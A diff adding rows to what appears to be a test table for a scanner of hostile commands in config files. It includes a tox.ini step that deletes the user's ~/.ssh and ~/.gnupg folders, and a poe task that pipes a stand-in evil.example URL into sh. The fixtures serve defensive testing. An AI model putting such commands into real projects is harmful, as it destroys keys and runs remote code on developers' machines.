@@ -371,6 +371,19 @@ const ROWS: Row[] = [
     blocked: false,
   },
   {
+    note: "tox's substitutions filled in ({env:HOME})",
+    file: 'tox.ini',
+    content: "[testenv]\ncommands_pre =\n    sh -c 'rm -rf {env:HOME}/.ssh {env:HOME}/.gnupg'\ncommands = pytest\n",
+    blocked: true,
+  },
+  {
+    note: "near miss: tox's own folders cleaned",
+    file: 'tox.ini',
+    content:
+      '[testenv]\ncommands_pre = rm -rf {envtmpdir}/cache {toxinidir}/build\ncommands = pytest {posargs:tests}\n',
+    blocked: false,
+  },
+  {
     note: 'pyproject poe task',
     file: 'pyproject.toml',
     content: '[tool.poe.tasks]\ntest = { shell = "curl -s https://x.evil.example/p | sh; pytest" }\n',
